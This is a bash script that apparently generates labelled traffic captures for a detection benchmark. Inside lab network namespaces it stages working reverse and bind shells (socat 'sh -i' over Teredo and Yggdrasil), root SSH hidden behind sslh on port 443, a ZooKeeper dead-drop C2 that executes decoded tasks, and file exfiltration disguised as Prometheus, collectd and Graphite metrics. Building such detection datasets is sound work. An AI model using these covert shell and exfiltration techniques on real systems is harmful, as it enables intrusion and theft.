#!/usr/bin/env bash
# A TWENTY-SECOND fresh attack set ("f22-*"): IPv6 overlays out of the device that no earlier set used (a Teredo
# tunnel, a Yggdrasil mesh), the device's SSH hidden behind a protocol multiplexer on tcp/443, a ZooKeeper dead drop,
# and exfiltration disguised as monitoring metrics (a Prometheus pushgateway, collectd's network protocol, Graphite's
# carbon plaintext protocol).
# Made with real packaged tools between network namespaces (no helper program: every far end is a packaged server).
#   f22-teredo-revshell        a Teredo IPv6-in-UDP tunnel out of the device (miredo, to an internet miredo-server on
#                              udp/3544 at two consecutive addresses): the device qualifies, then opens a reverse shell
#                              over IPv6 to the operator's own Teredo address (another miredo client on the internet)
#                              and the operator types 7 commands, one reading a file out
#   f22-yggdrasil-shell-in     a Yggdrasil overlay (yggdrasil 0.4, a TCP peering to an internet node on tcp/14000): the
#                              device joins the operator's mesh, its shell listens on its overlay address and the
#                              operator on the internet peer uses it
#   f22-sslh-ssh-in-443        SSH hidden behind sslh on the device's tcp/443 (HTTPS to the device's web UI and SSH on
#                              the same port): an internet host fetches the web page, then logs in over SSH on 443 with
#                              a key, runs commands and copies a file out (scp), 3 sessions
#   f22-zookeeper-c2           a ZooKeeper dead drop (zookeeperd 3.8 on the internet, tcp/2181): the device polls its
#                              task znode with zkCli every 8-14 s and creates a znode with each task's output
#   f22-pushgateway-exfil      a file exfiltrated as Prometheus metrics: base64 chunks in label values of 30 pushes
#                              (curl PUT/POST) to an internet prometheus-pushgateway on tcp/9091, 2-4 s apart
#   f22-collectd-exfil         a file exfiltrated in collectd's binary network protocol (udp/25826): the device's
#                              collectd (exec + network plugins) sends values whose type instances carry the file in
#                              hex, to an internet collectd that listens and writes CSV
#   f22-carbon-exfil           a file exfiltrated as Graphite metric names over carbon's plaintext protocol (tcp/2003,
#                              carbon-cache on the internet): a connection every 3-5 s with a few metric lines each
# The lab is fresh-lab.sh's (device 10.66.0.10, victim 10.66.0.20, dummies .31-.34, a routed "internet" 10.128.0.0/9
# behind the victim), namespaces f22-*, veths f22p-*. Internet hosts are /32 addresses on the victim's lo
# (10.128.124.x). Each id's servers are started before its capture and stopped after. Every tool runs under
# `timeout`, every loop is bounded; namespaces are removed on exit. The device is always the lab's attacker namespace
# (role attacker).
#
# Tools (Debian): miredo miredo-server yggdrasil sslh openssh-server openssh-client zookeeperd (zkServer.sh, zkCli.sh)
#   prometheus-pushgateway curl collectd-core graphite-carbon netcat-openbsd socat iproute2 tcpdump wireshark-common
#   bc openssl
#
# Usage: bash bench/behavior/fresh22/gen-fresh22.sh [--out DIR (default /work/behavior-bench-fresh22)] [--ids id1,id2]
set -euo pipefail

OUT=/work/behavior-bench-fresh22
HERE="$(cd "$(dirname "$0")" && pwd)"
LAB=f22 GEN=gen-fresh22
# shellcheck source=../fresh-lab.sh
. "$HERE/../fresh-lab.sh" "$@"

lab_network
victim_arp_names_lan
sleep 1

# ---------- "internet" hosts ----------
# .124.2 + .3 the Teredo server, .5 the operator's Teredo client, .6 the Yggdrasil node, .8 the SSH operator,
# .9 ZooKeeper, .11 the pushgateway, .12 the collectd server, .13 carbon
internet_hosts 10.128.124.2 10.128.124.3 10.128.124.5 10.128.124.6 10.128.124.8 10.128.124.9 10.128.124.11 \
  10.128.124.12 10.128.124.13
export NET VIC_IP ATT_IP W PY HERE LAB

mkdir -p "$W/loot"
head -c 24000 /dev/urandom | base64 > "$W/loot/wifi-creds.txt"
chmod -R a+rX "$W/loot"

# IPv6 for the tunnels' interfaces (the lab links keep it off)
ipv6_for_tun() { ns "$1" sysctl -qw net.ipv6.conf.default.disable_ipv6=0; }

# ---------- 1. a reverse shell over a Teredo tunnel ----------
if want f22-teredo-revshell; then
  T="$W/teredo"; rm -rf "$T"; mkdir -p "$T"
  ipv6_for_tun att; ipv6_for_tun vic
  # miredo wants a global IPv4 address for its server: the Teredo server and the operator's client are on
  # 198.51.100.x (routed to the victim like the lab's internet; the id is injected with peer wan over that range)
  ns vic ip addr add 198.51.100.2/32 dev lo; ns vic ip addr add 198.51.100.3/32 dev lo
  ns vic ip addr add 198.51.100.5/32 dev lo
  ns att ip route replace 198.51.100.0/24 via "$VIC_IP"
  # and it answers only clients of global addresses: the victim, the device's gateway, NATs the device to
  # 198.51.100.50 as a home router would (the capture on the device's link shows 10.66.0.10)
  ns vic ip addr add 198.51.100.50/32 dev lo
  ns vic nft -f - <<'NFT'
table ip f22nat {
  chain input { type nat hook input priority 100; ip saddr 10.66.0.10 ip daddr 198.51.100.0/24 snat to 198.51.100.50; }
}
NFT
  printf 'ServerBindAddress 198.51.100.2\n' > "$T/server.conf"
  printf 'InterfaceName teredo\nServerAddress 198.51.100.2\nBindAddress 198.51.100.5\n' > "$T/op.conf"
  printf 'InterfaceName teredo\nServerAddress 198.51.100.2\n' > "$T/dev.conf"
  srv vic 200 miredo-server -f -c "$T/server.conf" -p "$T/server.pid"
  MS_PID=$BG
  sleep 2
  srv vic 200 miredo -f -c "$T/op.conf" -p "$T/op.pid"
  MO_PID=$BG
  OPA=""
  for i in $(seq 1 20); do
    OPA=$(ns vic ip -6 -o addr show dev teredo 2>/dev/null | awk '$4 ~ /^2001:0?:/ {sub(/\/.*/, "", $4); print $4; exit}' || true)
    [ -n "$OPA" ] && break; sleep 1
  done
  echo "teredo: operator address ${OPA:-none}" >&2
  echo "$OPA" > "$T/op.addr"
  # the operator: a listener on its Teredo address, commands typed a few seconds apart
  ip netns exec "$LAB-vic" timeout 150 bash -c "
    (sleep 25; for c in id 'uname -a' 'cat /proc/net/arp' 'ip -6 addr' 'ls -la /tmp /mnt' 'ps' 'cat $W/loot/wifi-creds.txt'; do
       echo \"\$c\"; sleep \$((6 + RANDOM % 5)); done; sleep 8; echo exit) |
    socat -t 10 - 'TCP6-LISTEN:8443,bind=[$OPA],reuseaddr' > '$T/op.out' 2>&1" >>"$W/bg-vic.log" 2>&1 &
  OPS_PID=$!; PIDS+=("$OPS_PID")
  cat > "$W/teredo.sh" <<'EOS'
# the device: miredo qualifies with the Teredo server, then a shell connects to the operator's Teredo address
T="$W/teredo"; OPA=$(cat "$T/op.addr")
timeout 105 miredo -f -c "$T/dev.conf" -p "$T/dev.pid" > "$T/dev-miredo.log" 2>&1 &
MP=$!
for i in $(seq 1 20); do ip -6 -o addr show dev teredo 2>/dev/null | grep -q 'inet6 2001:' && break; sleep 1; done
ip -6 -o addr show dev teredo > "$T/dev.addr" 2>&1
sleep 2
for k in 1 2 3 4 5; do
  timeout 95 socat "TCP6:[$OPA]:8443,connect-timeout=8" EXEC:'sh -i',stderr > "$T/dev-shell.log" 2>&1 && break
  sleep 3
done
sleep 3
kill $MP 2>/dev/null; wait $MP 2>/dev/null
EOS
  CAP_WAN=198.51.100.0/24 CAP_VIC_IP=198.51.100.2 cap f22-teredo-revshell c2 miredo-teredo+socat-shell attacker wan false 115 \
    bash "$W/teredo.sh"
  ns att ip route del 198.51.100.0/24 via "$VIC_IP" || true
  ns vic nft delete table ip f22nat || true
  stopbg "$OPS_PID"; stopbg "$MO_PID"; stopbg "$MS_PID"; kill_in vic miredo; kill_in vic miredo-server; kill_in att miredo
  echo "teredo: operator got $(wc -c < "$T/op.out" 2>/dev/null || echo 0) bytes" >&2
fi

# ---------- 2. a shell on the device reached through a Yggdrasil overlay ----------
if want f22-yggdrasil-shell-in; then
  Y="$W/ygg"; rm -rf "$Y"; mkdir -p "$Y"
  ipv6_for_tun att; ipv6_for_tun vic
  for s in op dev; do
    yggdrasil -genconf -json > "$Y/$s.gen.json"
  done
  $PY - "$Y" <<'PYEOF'
import json, sys
d = sys.argv[1]
for s, listen, peers, ifn in (("op", ["tcp://10.128.124.6:14000"], [], "ygg0"),
                              ("dev", [], ["tcp://10.128.124.6:14000"], "ygg0")):
    c = json.load(open(f"{d}/{s}.gen.json"))
    c["Listen"] = listen; c["Peers"] = peers; c["InterfacePeers"] = {}
    c["MulticastInterfaces"] = []; c["AdminListen"] = "none"; c["IfName"] = ifn
    c["NodeInfo"] = {"name": s}
    json.dump(c, open(f"{d}/{s}.json", "w"), indent=1)
PYEOF
  DEVA=$(yggdrasil -useconffile "$Y/dev.json" -address)
  echo "$DEVA" > "$Y/dev.addr"
  srv vic 200 yggdrasil -useconffile "$Y/op.json" -logto "$Y/op.log"
  YO_PID=$BG
  sleep 2
  cat > "$W/ygg.sh" <<'EOS'
# the device: joins the mesh through its peer, and serves a shell on its overlay address
Y="$W/ygg"; DEVA=$(cat "$Y/dev.addr")
timeout 110 yggdrasil -useconffile "$Y/dev.json" -logto "$Y/dev.log" &
YP=$!
for i in $(seq 1 20); do ip -6 -o addr show dev ygg0 2>/dev/null | grep -q inet6 && break; sleep 1; done
timeout 100 socat "TCP6-LISTEN:2323,bind=[$DEVA],reuseaddr" EXEC:'sh -i',stderr > "$Y/dev-shell.log" 2>&1 &
SP=$!
wait $SP 2>/dev/null
sleep 3
kill $YP 2>/dev/null; wait $YP 2>/dev/null
EOS
  # the operator on the internet node: connects over the overlay to the device's shell and types
  ip netns exec "$LAB-vic" timeout 150 bash -c "
    sleep 22
    (for c in id 'uname -a' 'ip -6 addr' 'cat /proc/net/arp' 'ls -la /tmp /mnt' 'ps' 'cat $W/loot/wifi-creds.txt' 'netstat -tn 2>/dev/null || ss -tn'; do
       echo \"\$c\"; sleep \$((6 + RANDOM % 5)); done; sleep 6; echo exit) |
    socat -t 10 - 'TCP6:[$DEVA]:2323,connect-timeout=20' > '$Y/op.out' 2>&1" >>"$W/bg-vic.log" 2>&1 &
  OPS_PID=$!; PIDS+=("$OPS_PID")
  CAP_VIC_IP=10.128.124.6 cap f22-yggdrasil-shell-in c2 yggdrasil-overlay+socat-shell attacker public false 115 bash "$W/ygg.sh"
  stopbg "$OPS_PID"; stopbg "$YO_PID"; kill_in vic yggdrasil; kill_in att yggdrasil
  echo "ygg: operator got $(wc -c < "$Y/op.out" 2>/dev/null || echo 0) bytes" >&2
fi

# ---------- 3. SSH behind sslh on the device's tcp/443, used from the internet ----------
if want f22-sslh-ssh-in-443; then
  S="$W/sslh"; rm -rf "$S"; mkdir -p "$S/www" /run/sshd
  lab_tls_cert cam7f3a.local
  echo '<html><body>cam7f3a web UI</body></html>' > "$S/www/index.html"
  [ -f "$S/../ssh_host_ed25519" ] || ssh-keygen -q -t ed25519 -N '' -f "$W/ssh_host_ed25519"
  [ -f "$W/op_ed25519" ] || ssh-keygen -q -t ed25519 -N '' -f "$W/op_ed25519"
  mkdir -p "$S/home/.ssh"; cp "$W/op_ed25519.pub" "$S/authorized_keys"; chmod 600 "$S/authorized_keys"
  cat > "$S/sshd_config" <<EOF
ListenAddress 127.0.0.1:22
HostKey $W/ssh_host_ed25519
PermitRootLogin yes
PasswordAuthentication no
AuthorizedKeysFile $S/authorized_keys
UsePAM no
StrictModes no
PidFile $S/sshd.pid
Subsystem sftp /usr/lib/openssh/sftp-server
EOF
  srv att 200 /usr/sbin/sshd -D -e -f "$S/sshd_config"
  SD_PID=$BG
  srv att 200 env -C "$S/www" openssl s_server -quiet -accept 127.0.0.1:8443 -cert "$W/tls.crt" -key "$W/tls.key" -WWW
  WS_PID=$BG
  srv att 200 sslh-select -f -n -p 10.66.0.10:443 --ssh 127.0.0.1:22 --tls 127.0.0.1:8443 -P "$S/sslh.pid"
  SL_PID=$BG
  sleep 2
  ns vic ip route replace 10.66.0.10/32 dev eth0 src 10.128.124.8
  cat > "$W/sslh.sh" <<'EOS'
# the operator on the internet (the victim's namespace, source 10.128.124.8): the web page, then SSH on 443
S="$W/sslh"
O=(-i "$W/op_ed25519" -p 443 -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o BatchMode=yes
   -o ConnectTimeout=10 -o LogLevel=ERROR)
V() { ip netns exec "$LAB-vic" "$@"; }
cd "$S/www"
V timeout 10 curl -sk https://10.66.0.10/index.html > "$S/op-web.html" 2>&1 || true
sleep 6
V timeout 40 ssh "${O[@]}" root@10.66.0.10 'id; uname -a; cat /proc/net/arp; ip -4 addr; ls -la /tmp /mnt; ps' > "$S/op1.out" 2>&1 || true
sleep $((12 + RANDOM % 6))
V timeout 40 scp -q -P 443 -i "$W/op_ed25519" -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null \
  -o BatchMode=yes -o LogLevel=ERROR root@10.66.0.10:"$W/loot/wifi-creds.txt" "$S/got-wifi-creds.txt" > "$S/op2.out" 2>&1 || true
sleep $((12 + RANDOM % 6))
# an interactive session: commands typed a few seconds apart
(for c in 'cat /etc/passwd' 'ls -la /etc' 'df' 'cat /proc/cpuinfo | head -8'; do echo "$c"; sleep $((4 + RANDOM % 4)); done; echo exit) |
  V timeout 50 ssh -tt "${O[@]}" root@10.66.0.10 > "$S/op3.out" 2>&1 || true
sleep 4
V timeout 10 curl -sk https://10.66.0.10/index.html >> "$S/op-web.html" 2>&1 || true
EOS
  CAP_VIC_IP=10.128.124.8 cap f22-sslh-ssh-in-443 c2 sslh+ssh-inbound-443 attacker public false 115 bash "$W/sslh.sh"
  ns vic ip route del 10.66.0.10/32 dev eth0 src 10.128.124.8 || true
  stopbg "$SL_PID"; stopbg "$WS_PID"; stopbg "$SD_PID"; kill_in att sslh-select; kill_in att sshd
  echo "sslh: web $(wc -c < "$S/op-web.html") B, ssh1 $(wc -l < "$S/op1.out") lines, scp $(stat -c %s "$S/got-wifi-creds.txt" 2>/dev/null || echo 0) B, ssh3 $(wc -l < "$S/op3.out") lines" >&2
fi

# ---------- 4. a ZooKeeper dead drop ----------
if want f22-zookeeper-c2; then
  Z="$W/zk"; rm -rf "$Z"; mkdir -p "$Z/conf" "$Z/data" "$Z/log"
  cat > "$Z/conf/zoo.cfg" <<EOF
tickTime=2000
dataDir=$Z/data
clientPortAddress=10.128.124.9
clientPort=2181
admin.enableServer=false
4lw.commands.whitelist=
EOF
  cp /etc/zookeeper/conf/log4j.properties "$Z/conf/" 2>/dev/null || true
  srv vic 220 env ZOOCFGDIR="$Z/conf" ZOO_LOG_DIR="$Z/log" ZOO_LOG4J_PROP=WARN,CONSOLE /usr/share/zookeeper/bin/zkServer.sh start-foreground "$Z/conf/zoo.cfg"
  ZS_PID=$BG
  wait_tcp vic 10.128.124.9 2181
  ZC() { ip netns exec "$LAB-vic" timeout 30 env ZOOCFGDIR="$Z/conf" ZOO_LOG_DIR="$Z/log" /usr/share/zookeeper/bin/zkCli.sh -server 10.128.124.9:2181 "$@"; }
  ZC create /c2 "" >>"$Z/op.log" 2>&1 || true
  ZC create /c2/cam7f3a "" >>"$Z/op.log" 2>&1 || true
  ZC create /c2/cam7f3a/task "$(printf id | base64 -w0)" >>"$Z/op.log" 2>&1 || true
  # the operator's next tasks (base64: zkCli splits its command line at spaces), set while the device polls
  ip netns exec "$LAB-vic" timeout 150 bash -c "
    for t in 'uname -a' 'cat /proc/net/arp' 'ls -la /tmp /mnt' 'head -c 3000 $W/loot/wifi-creds.txt'; do
      sleep 22; env ZOOCFGDIR='$Z/conf' ZOO_LOG_DIR='$Z/log' timeout 30 /usr/share/zookeeper/bin/zkCli.sh \
        -server 10.128.124.9:2181 set /c2/cam7f3a/task \$(printf '%s' \"\$t\" | base64 -w0)
    done" >>"$Z/op.log" 2>&1 &
  OPT_PID=$!; PIDS+=("$OPT_PID")
  cat > "$W/zk.sh" <<'EOS'
# the device: reads its task znode every 8-14 s (zkCli, one session each), runs a new task and creates a znode with
# its output
Z="$W/zk"; export ZOOCFGDIR="$Z/conf" ZOO_LOG_DIR="$Z/log"
ZC=/usr/share/zookeeper/bin/zkCli.sh
last=""; n=0
for i in $(seq 1 12); do
  [ $SECONDS -lt 105 ] || break
  t=$(timeout 25 $ZC -server 10.128.124.9:2181 get /c2/cam7f3a/task 2>>"$Z/dev.err" | grep -v '^WATCHER\|^WatchedEvent\|^$\|^Connecting\|^log4j\|^SLF4J' | tail -1)
  if [ -n "$t" ] && [ "$t" != "$last" ]; then
    last="$t"; n=$((n + 1))
    o=$(printf '%s' "$t" | base64 -d 2>/dev/null | sh 2>&1 | head -c 4000 | base64 -w0)
    timeout 25 $ZC -server 10.128.124.9:2181 create "/c2/cam7f3a/out-$n" "$o" >> "$Z/dev.out" 2>>"$Z/dev.err" || true
  fi
  sleep $((8 + RANDOM % 7))
done
EOS
  CAP_VIC_IP=10.128.124.9 cap f22-zookeeper-c2 c2 zkCli+zookeeperd attacker public false 120 bash "$W/zk.sh"
  stopbg "$OPT_PID"; stopbg "$ZS_PID"; kill_in vic java
  echo "zk: outputs created $(grep -c 'Created' "$Z/dev.out" 2>/dev/null || echo 0)" >&2
fi

# ---------- 5. exfiltration as Prometheus metrics to a pushgateway ----------
if want f22-pushgateway-exfil; then
  P="$W/pgw"; rm -rf "$P"; mkdir -p "$P"
  srv vic 200 prometheus-pushgateway --web.listen-address=10.128.124.11:9091 --persistence.file="$P/pgw.db"
  PG_PID=$BG
  wait_tcp vic 10.128.124.11 9091
  cat > "$W/pgw.sh" <<'EOS'
# the device: 30 pushes 2-4 s apart, each a group of "diagnostic" metrics whose label values carry a base64 chunk
P="$W/pgw"; U=http://10.128.124.11:9091/metrics/job/cam7f3a_diag/instance/cam7f3a
base64 -w0 "$W/loot/wifi-creds.txt" | fold -w 1000 > "$P/chunks"
k=0
while read -r c && [ $k -lt 30 ]; do
  k=$((k + 1))
  {
    echo "# TYPE cam_diag_blob gauge"
    echo "cam_diag_blob{seq=\"$k\",part=\"a\",v=\"${c:0:500}\"} $k"
    echo "cam_diag_blob{seq=\"$k\",part=\"b\",v=\"${c:500}\"} $k"
    echo "cam_uptime_seconds $SECONDS"
  } > "$P/push-$k.txt"
  if [ $((k % 5)) = 1 ]; then m=PUT; else m=POST; fi
  timeout 10 curl -s -X $m --data-binary @"$P/push-$k.txt" "$U/seq/$k" >> "$P/dev.out" 2>&1 || true
  sleep $((2 + RANDOM % 3))
done < "$P/chunks"
timeout 10 curl -s http://10.128.124.11:9091/api/v1/status > "$P/status.json" 2>&1 || true
EOS
  CAP_VIC_IP=10.128.124.11 cap f22-pushgateway-exfil exfil curl+prometheus-pushgateway attacker public false 120 bash "$W/pgw.sh"
  timeout 10 ip netns exec "$LAB-vic" curl -s http://10.128.124.11:9091/metrics 2>/dev/null | grep -c '^cam_diag_blob' > "$P/got" || true
  stopbg "$PG_PID"; kill_in vic prometheus-push
  echo "pushgateway: blob series on the server $(cat "$P/got" 2>/dev/null)" >&2
fi

# ---------- 6. exfiltration in collectd's network protocol ----------
if want f22-collectd-exfil; then
  C="$W/collectd"; rm -rf "$C"; mkdir -p "$C/csv"
  head -c 4500 "$W/loot/wifi-creds.txt" | od -An -tx1 | tr -d ' \n' | fold -w 60 > "$C/chunks"
  chmod -R a+rX "$C"
  cat > "$C/exfil.sh" <<EOS
#!/bin/sh
# the exec plugin's script: PUTVAL lines whose type instances carry the chunks, 8 every interval
H=cam7f3a; i=0
while read -r c; do
  i=\$((i + 1))
  echo "PUTVAL \$H/diag-\$((i % 1000))/gauge-\$c interval=3 N:\$i"
  [ \$((i % 8)) = 0 ] && sleep 3
done < "$C/chunks"
sleep 60
EOS
  chmod 755 "$C/exfil.sh"
  cat > "$C/server.conf" <<EOF
Hostname "collector"
FQDNLookup false
Interval 10
TypesDB "/usr/share/collectd/types.db"
PIDFile "$C/server.pid"
LoadPlugin network
LoadPlugin csv
<Plugin network>
  Listen "10.128.124.12" "25826"
</Plugin>
<Plugin csv>
  DataDir "$C/csv"
</Plugin>
EOF
  cat > "$C/dev.conf" <<EOF
Hostname "cam7f3a"
FQDNLookup false
Interval 3
TypesDB "/usr/share/collectd/types.db"
PIDFile "$C/dev.pid"
LoadPlugin exec
LoadPlugin network
LoadPlugin load
<Plugin exec>
  Exec "nobody" "$C/exfil.sh"
</Plugin>
<Plugin network>
  Server "10.128.124.12" "25826"
</Plugin>
EOF
  srv vic 200 collectd -f -C "$C/server.conf"
  CS_PID=$BG
  sleep 2
  cat > "$W/collectd.sh" <<'EOS'
# the device: collectd with the exec and network plugins for 95 s
timeout 95 collectd -f -C "$W/collectd/dev.conf" > "$W/collectd/dev.log" 2>&1 || true
EOS
  CAP_VIC_IP=10.128.124.12 cap f22-collectd-exfil exfil collectd-network+exec attacker public false 105 bash "$W/collectd.sh"
  stopbg "$CS_PID"; kill_in vic collectd
  echo "collectd: csv files on the server $(find "$C/csv" -type f | wc -l)" >&2
fi

# ---------- 7. exfiltration as Graphite metric names to carbon ----------
if want f22-carbon-exfil; then
  G="$W/carbon"; rm -rf "$G"; mkdir -p "$G/conf" "$G/storage/whisper" "$G/log" "$G/run"
  cat > "$G/conf/carbon.conf" <<EOF
[cache]
STORAGE_DIR = $G/storage
LOCAL_DATA_DIR = $G/storage/whisper
WHITELISTS_DIR = $G/storage/lists
CONF_DIR = $G/conf
LOG_DIR = $G/log
PID_DIR = $G/run
ENABLE_LOGROTATION = False
USER =
MAX_CACHE_SIZE = inf
MAX_UPDATES_PER_SECOND = 500
MAX_CREATES_PER_MINUTE = inf
LINE_RECEIVER_INTERFACE = 10.128.124.13
LINE_RECEIVER_PORT = 2003
ENABLE_UDP_LISTENER = False
PICKLE_RECEIVER_INTERFACE = 127.0.0.1
PICKLE_RECEIVER_PORT = 2004
CACHE_QUERY_INTERFACE = 127.0.0.1
CACHE_QUERY_PORT = 7002
LOG_LISTENER_CONN_SUCCESS = False
EOF
  printf '[default]\npattern = .*\nretentions = 10s:1d\n' > "$G/conf/storage-schemas.conf"
  srv vic 200 carbon-cache --config="$G/conf/carbon.conf" --pidfile="$G/run/carbon.pid" --debug start
  CC_PID=$BG
  wait_tcp vic 10.128.124.13 2003
  cat > "$W/carbon.sh" <<'EOS'
# the device: a connection every 3-5 s with 4 metric lines, the file in hex as the last component of 3 of them
G="$W/carbon"
head -c 8000 "$W/loot/wifi-creds.txt" | od -An -tx1 | tr -d ' \n' | fold -w 120 > "$G/chunks"
exec 3< "$G/chunks"
for k in $(seq 1 30); do
  [ $SECONDS -lt 100 ] || break
  ts=$(date +%s)
  {
    for j in 1 2 3; do read -r c <&3 || break; echo "iot.cam7f3a.diag.s$k$j.x$c $((RANDOM % 100)) $ts"; done
    echo "iot.cam7f3a.uptime $SECONDS $ts"
  } | timeout 8 nc -q 1 10.128.124.13 2003 >> "$G/dev.out" 2>&1 || true
  sleep $((3 + RANDOM % 3))
done
EOS
  CAP_VIC_IP=10.128.124.13 cap f22-carbon-exfil exfil nc+graphite-carbon attacker public false 115 bash "$W/carbon.sh"
  stopbg "$CC_PID"; kill_in vic carbon-cache
  echo "carbon: whisper files $(find "$G/storage/whisper" -name '*.wsp' | wc -l)" >&2
fi

lab_index
